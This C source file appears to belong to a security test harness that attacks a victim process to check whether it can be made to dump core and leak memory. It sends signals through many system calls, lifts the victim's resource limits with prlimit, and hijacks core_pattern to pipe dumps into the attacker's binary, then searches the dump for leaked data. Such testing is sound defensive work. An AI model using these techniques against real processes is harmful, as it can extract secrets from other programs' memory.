/*
 * dump.c - makes the victim dump its core: signals by every call that sends one, limits lifted from outside, and a
 * receiver of dumps. A dump can be searched when core_pattern is an absolute path with %P or %p.
 */
#include "../attack.h"

#define PATTERN "/proc/sys/kernel/core_pattern"

enum { DEATH_MS = 10000, SILENCE_MS = 1000, STEP_MS = 20, TEXT = 256, DUMP_ROOM = 800 };

/* The path of the dump; empty when it cannot be known. */
static void path_of_dump(const struct attack *a, pid_t pid, char path[DUMP_ROOM])
{
	char pattern[TEXT], uses_pid[TEXT], folder[TEXT + 2] = "", *number, digits[16];

	(void)snprintf(digits, sizeof(digits), "%d", (int)pid);
	path[0] = '\0';
	if (get_text(PATTERN, pattern, sizeof(pattern)) < 0 || pattern[0] == '|' ||
	    get_text("/proc/sys/kernel/core_uses_pid", uses_pid, sizeof(uses_pid)) < 0)
		return;
	if (pattern[0] != '/')
		(void)snprintf(folder, sizeof(folder), "%s/", a->target.cwd);
	number = strcasestr(pattern, "%p");
	if (number == NULL && strchr(pattern, '%') == NULL)
		(void)snprintf(path, DUMP_ROOM, "%s%s%s%s", folder, pattern, uses_pid[0] == '1' ? "." : "",
			       uses_pid[0] == '1' ? digits : "");
	if (number == NULL)
		return;
	*number = '\0';
	(void)snprintf(path, DUMP_ROOM, "%s%s%s%s", folder, pattern, digits, number + 2);
}

static int search_dump(const struct attack *a, pid_t pid, const char *path)
{
	const int is_silent = a->row->text != NULL && a->row->text[0] == 's'; /* its refusal is silent */
	int fd, result;

	for (int waited = 0; !is_gone(pid); waited += STEP_MS) {
		if (waited > (is_silent && !a->options->is_control ? SILENCE_MS : DEATH_MS))
			return is_silent ? -ETIMEDOUT : ALLOWED; /* it lives */
		pause_ms(STEP_MS);
	}
	fd = path[0] == '\0' ? -1 : open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return ALLOWED; /* dead, without a dump */
	result = saw_file(a, fd);
	(void)close(fd);
	(void)unlink(path);
	return result == LEAKED ? LEAKED : ALLOWED;
}

static int send_info(pid_t pid, pid_t tid, int signal)
{
	siginfo_t info = { .si_signo = signal, .si_code = SI_QUEUE };

	info.si_pid = getpid();
	if (tid != 0)
		return (int)syscall(SYS_rt_tgsigqueueinfo, pid, tid, signal, &info);
	return (int)syscall(SYS_rt_sigqueueinfo, pid, signal, &info);
}

/* The kernel sends the signal, on behalf of a pipe whose owner is set to the victim. */
static int send_by_pipe(pid_t pid, int signal)
{
	int ends[2];

	if (pipe(ends) < 0 || fcntl(ends[0], F_SETOWN, pid) < 0 || fcntl(ends[0], F_SETSIG, signal) < 0 ||
	    fcntl(ends[0], F_SETFL, O_ASYNC | O_NONBLOCK) < 0)
		return -1;
	return write(ends[1], "", 1) == 1 ? 0 : -1;
}

static int send_signal(const struct attack *a, pid_t pid, int signal)
{
	switch (a->row->text[0]) {
	case 'k':
		return kill(pid, signal);
	case 't':
		return (int)syscall(SYS_tkill, a->target.tid, signal);
	case 'g':
		return (int)syscall(SYS_tgkill, pid, a->target.tid, signal);
	case 'q':
		return send_info(pid, 0, signal);
	case 'Q':
		return send_info(pid, a->target.tid, signal);
	case 'f':
		return (int)syscall(SYS_pidfd_send_signal, open_pidfd(pid, 0), signal, NULL, 0);
	case 'G': /* only a group of its own: the attacker may be in another one */
		return getpgid(pid) == pid ? kill(-pid, signal) : (errno = ENOENT, -1);
	default:
		return send_by_pipe(pid, signal);
	}
}

/* text: how the signal is sent, then to which process. */
int dump(struct attack *a)
{
	pid_t pid = process_of(a, a->row->text[1]);
	char path[DUMP_ROOM];

	path_of_dump(a, pid, path);
	if (path[0] != '\0')
		(void)lift_core_limit(pid);
	if (send_signal(a, pid, (int)a->row->number) < 0)
		return -errno;
	return search_dump(a, pid, path);
}

/* To no limit; with a text, to its present value. */
int set_limit(struct attack *a)
{
	struct rlimit all = { RLIM_INFINITY, RLIM_INFINITY };
	const enum __rlimit_resource limit = (enum __rlimit_resource)a->row->number;

	if (a->row->text != NULL && prlimit(a->target.pid, limit, NULL, &all) < 0)
		return -errno;
	return prlimit(a->target.pid, limit, &all, NULL) < 0 ? -errno : ALLOWED;
}

/* The attacker's program receives dumps; then the victim gets a signal. */
int receive_dump(struct attack *a)
{
	char before[TEXT], self[120] = "", pattern[TEXT];
	const char *path = "/tmp/attack.received";
	int failed = get_text(PATTERN, before, sizeof(before)), result;

	if (failed < 0 || readlink("/proc/self/exe", self, sizeof(self) - 1) < 0)
		return failed < 0 ? failed : -errno;
	(void)snprintf(pattern, sizeof(pattern), "|%s --save-dump %s", self, path);
	failed = put_text(PATTERN, pattern);
	if (failed < 0)
		return failed;
	(void)lift_core_limit(a->target.pid);
	result = kill(a->target.pid, SIGSEGV) < 0 ? -errno : search_dump(a, a->target.pid, path);
	(void)put_text(PATTERN, before);
	return result;
}
